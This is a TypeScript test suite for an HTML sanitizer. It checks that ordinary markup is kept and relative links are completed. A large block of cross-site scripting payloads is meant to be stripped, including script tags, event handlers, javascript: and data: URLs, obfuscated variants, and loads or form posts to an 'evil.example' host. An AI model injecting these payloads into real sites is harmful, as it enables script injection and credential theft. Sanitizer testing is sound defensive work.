import { safeHtml } from './safe-html.js';
import { processorSeconds } from '../../../../test/support/processor-time.js';

const safe = (html: string, base: string | null = null) => safeHtml({ html, base });

describe('safeHtml', () => {
  it.each([
    ['<p>第一段</p><p>第二段<br>换行</p>', '<p>第一段</p><p>第二段<br />换行</p>'],
    ['<table><tr><td colspan="2">甲</td></tr></table>', '<table><tr><td colspan="2">甲</td></tr></table>'],
    ['<a href="https://a.example/1?a=1&amp;b=2">看</a>', '<a href="https://a.example/1?a=1&amp;b=2">看</a>'],
    ['<img src="https://a.example/p.png" alt="图" onload="x()">', '<img src="https://a.example/p.png" alt="图" />'],
    ['<ul><li>一<li>二</ul>', '<ul><li>一</li><li>二</li></ul>'],
    ['1 &lt; 2 &amp; 3', '1 &lt; 2 &amp; 3'],
    ['A &eacute; &mdash; B', 'A é — B'],
    ['没有关上 <b>的标签', '没有关上 <b>的标签</b>'],
    ['<center><font color="red">红字</font></center>', '<center><font color="red">红字</font></center>'],
  ])('keeps %p', (html, kept) => expect(safe(html)).toBe(kept));

  it.each([
    '<script>alert(1)</script>',
    '<script src=//evil.example/x.js></script>',
    '<SCRIPT>alert(1)</SCRIPT >',
    '<scr<script>ipt>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"><embed src="x.swf"></object>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ])('lets nothing through of %p', (html) => {
    const kept = safe(html, 'https://a.example/');
    expect(kept).not.toMatch(/<(?:script|style|svg|math|iframe|object|embed|link|meta|base|form|input|button|noscript|textarea|xmp)/i);
    expect(kept.replace(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(/\son\w+\s*=|="\s*(?:javascript|vbscript|data|file):|style=|expression/i);
  });

  it.each([
    ['<a href="2.html">x</a>', '<a href="https://a.example/b/2.html">x</a>'],
    ['<a href="/2.html">x</a>', '<a href="https://a.example/2.html">x</a>'],
    ['<img src="//cdn.example/p.png">', '<img src="https://cdn.example/p.png" />'],
    ['<a href="http://b.example/中文?q=1">x</a>', '<a href="http://b.example/中文?q=1">x</a>'],
    ['<a href="mailto:12345@a.example">x</a>', '<a href="mailto:12345@a.example">x</a>'],
    ['<a href="">x</a>', '<a>x</a>'],
  ])('completes %p', (html, complete) => expect(safe(html, 'https://a.example/b/1.html')).toBe(complete));

  it('is quick with megabytes of tags, however deep', async () => {
    const parts = ['<b>', '<', '<p><a href="x">', '&', '</b>', '<table><td>', '<a ', '<a href="', '<b a='];
    expect(await processorSeconds(() => parts.map((part) => safe(part.repeat(500_000), 'https://a.example/')))).toBeLessThan(3);
  });
});
